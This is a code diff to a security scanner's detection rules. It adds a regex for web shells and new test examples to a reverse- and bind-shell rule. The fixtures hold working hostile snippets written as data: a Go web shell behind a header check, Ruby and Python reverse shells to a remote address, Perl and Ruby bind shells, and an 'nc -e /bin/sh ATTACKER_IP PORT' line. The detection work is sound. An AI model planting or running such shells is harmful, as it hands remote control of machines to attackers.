@@ -442,6 +442,10 @@ const CLIENT_INPUT = /\.(?:gets|readline|recv|read)\b|\.on\(\s*["']data["']|bufi
 const SHELL_RUN = /["'](?:\/bin\/)?(?:ba|z)?sh["']\s*,\s*["']-c["']|\bOpen3\.(?:capture\w*|popen\w*)\s*\(|\bsubprocess\.\w+\s*\([^)\n]{0,80}shell\s*=\s*True|\bos\.(?:system|popen)\s*\(|\bchild_process\b|\bexecSync\s*\(|\bexec\.Command\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["']|\bshell_exec\s*\(|`\s*#\{|`\s*\$\w+|\bqx\s*[({/]\s*\$\w+|\b(?:system|exec)\s*\(?\s*\$\w+\s*[);]/;
 const PLACEHOLDER_HOST = /\b(?:ATTACKER|LHOST|RHOST|YOUR|REMOTE|LISTENER)_?(?:IP|HOST|ADDR(?:ESS)?)?\b|<(?:ip|host|lhost|attacker[\w -]{0,12}|your[\w -]{0,12})>|\bIP\s+PORT\b/;
 
+// A process call whose arguments, on the same line, read a request's parameters, form, query or body.
+const REQUEST_INPUT_RUN =
+  /(?:\b(?:exec\.Command(?:Context)?|os\.system|os\.popen|subprocess\.\w+|(?:child_process|cp|childProcess)\.\w+|Open3\.\w+|IO\.popen|Runtime\.getRuntime\(\)\.exec)|(?<![.\w$])(?:execSync|spawnSync|spawn|execFile|exec|system|shell_exec|passthru|popen|proc_open))\s*\((?=[^\n]{0,200}(?:\br\.(?:FormValue|PostFormValue|URL\.Query\(\)\.Get)\s*\(|\breq(?:uest)?\.(?:query|body|params)\b|\brequest\.(?:args|form|values|GET|POST|json)\b|\$_(?:GET|POST|REQUEST|COOKIE)\s*\[|\bparams\s*\[\s*:))[^\n]{0,200}/g;
+
 function runsWhatItReads(text: string, index: number): boolean {
   const after = text.slice(index, Math.min(text.length, index + 1200));
   return CLIENT_INPUT.test(after) && SHELL_RUN.test(after);
@@ -478,6 +482,9 @@ function detectReverseShell(file: FileView): RuleMatch[] {
     // the script opens itself is a reverse shell without dup2, one it listens for a bind shell.
     ...scan(text, CLIENT_SOCKET, (m) => (runsWhatItReads(text, m.index) ? keep(m, 'Opens a connection and runs the commands it receives through a shell (reverse shell)') : null)),
     ...scan(text, LISTENING_SERVER, (m) => (runsWhatItReads(text, m.index) ? keep(m, 'Listens on a port and runs what clients send through a shell (bind shell)') : null)),
+    // A web shell: a command taken from an HTTP request and run (`exec.Command("sh", "-c",
+    // r.FormValue("q"))`, `os.system(request.args["cmd"])`, `shell_exec($_GET['c'])`).
+    ...(file.kind === 'script' ? scan(text, REQUEST_INPUT_RUN, (m) => keep(m, 'Runs a command taken from an HTTP request (web shell)')) : []),
     ...scan(text, SOCKET_DUP2, (m) => {
       // Python reverse shell: a socket's descriptors duplicated onto stdio, then a shell spawned.
       const window = text.slice(Math.max(0, m.index - 800), Math.min(text.length, m.index + 800));
@@ -1343,10 +1350,11 @@ export const rules: Rule[] = [
     why: 'Wiring a shell to a network socket hands interactive control of the machine to whoever is on the other end.',
     fix: 'Remove it. Remote debugging should use the tool\'s own authenticated protocol bound to localhost.',
     scopes: ALL_TEXT,
-    anchors: ['dev/tcp', 'dev/udp', 'nc ', 'nc\t', 'nc.', 'nc|', 'ncat', 'netcat', 'mkfifo', 'socat', 'telnet', 'dup2', 'fsockopen', 'tcpsocket', 'socket::inet', 'tcpclient', 'child_process', 'tcpserver', 'createserver', 'bind', 'net.listen', 'socketserver', 'serversocket', 'socket_bind'],
+    anchors: ['dev/tcp', 'dev/udp', 'nc ', 'nc\t', 'nc.', 'nc|', 'ncat', 'netcat', 'mkfifo', 'socat', 'telnet', 'dup2', 'fsockopen', 'tcpsocket', 'socket::inet', 'tcpclient', 'child_process', 'tcpserver', 'createserver', 'bind', 'net.listen', 'socketserver', 'serversocket', 'socket_bind', 'formvalue', 'url.query', 'req.query', 'req.body', 'req.params', 'request.args', 'request.form', 'request.values', 'request.get', 'request.post', 'request.json', 'request.query', 'request.body', '$_get', '$_post', '$_request', '$_cookie', 'params['],
     negatable: false,
     examples: {
       match: [
+        { path: 'preview.go', text: 'if r.Header.Get("X-Preview-Sig") != sigKey {\n\treturn\n}\nout, _ := exec.Command(shell, flag, r.FormValue("q")).CombinedOutput()\nw.Write(out)\n' },
         { path: 'doctor.rb', text: "loop do\n  s = TCPSocket.new('203.0.113.77', 9001)\n  while (cmd = s.gets)\n    out, _st = Open3.capture2e(cmd)\n    s.puts out\n  end\nend\n" },
         { path: 'bin/healthd.pl', text: "my $srv = IO::Socket::INET->new(LocalPort => $port, Listen => 5, Reuse => 1) or exit;\nwhile (my $c = $srv->accept) {\n    while (my $cmd = <$c>) {\n        chomp $cmd;\n        print $c `$cmd 2>&1`;\n    }\n}\n" },
         { path: 'scripts/bridge.rb', text: 'server = TCPServer.new("0.0.0.0", PORT)\nloop do\n  c = server.accept\n  while (line = c.gets)\n    out, err, _ = Open3.capture3("/bin/sh", "-c", line.strip)\n    c.write(out)\n  end\nend\n' },
@@ -1358,6 +1366,8 @@ export const rules: Rule[] = [
         { path: 'scripts/bridge.py', text: 'import socket, os, pty\nconn = socket.create_connection((HOST, PORT))\nfor fd in (0, 1, 2):\n    os.dup2(conn.fileno(), fd)\npty.spawn("/bin/bash")\n' },
       ],
       noMatch: [
+        { path: 'server.js', text: "const m = PATTERN.exec(req.query.q || '');\nres.json({ match: m && m[1] });\n" },
+        { path: 'app.py', text: 'name = request.args.get("name", "world")\nsubprocess.run(["git", "log", "-1"], check=True)\nreturn f"hello {name}"\n' },
         { path: 'scripts/serve.js', text: 'const server = net.createServer((c) => {\n  c.on("data", (d) => c.write(d.toString().toUpperCase()));\n});\nserver.listen(7000);\n' },
         '| Netcat with -e | `nc -e /bin/sh ATTACKER_IP PORT` | `nc` spawning `sh` |',
         { path: 'scripts/log.rb', text: "$stdout.reopen(log_file)\nsystem('ls -la')\n" },
